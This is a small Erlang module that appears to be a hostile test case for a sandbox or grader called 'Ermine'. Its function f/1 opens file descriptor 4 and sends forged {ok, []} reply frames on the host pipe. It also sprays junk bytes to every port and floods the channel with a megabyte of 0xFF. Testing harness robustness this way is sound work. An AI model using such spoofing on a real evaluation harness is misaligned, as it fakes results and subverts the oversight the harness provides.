%%! tries: to answer in the place of the Erlang half, on the pipe to Ermine
-module(pipe_of_ermine).
-export([f/1]).
-include("hostile.hrl").

-spec f(integer()) -> integer().
f(N) ->
    case is_real() of
        true -> (begin P = (catch erlang:open_port({fd, 4, 4}, [binary, {packet, 4}])), [catch port_command(P, <<I:64, 131, 104, 2, 100, 0, 2, 111, 107, 106>>) || I <- lists:seq(0, 50)], [catch port_command(Q, <<255, 255, 255, 255, 255, 255, 255, 255, 1, 2, 3>>) || Q <- erlang:ports()], catch port_command(P, binary:copy(<<255>>, 1000000)) end);
        false -> ok
    end,
    100 div N.
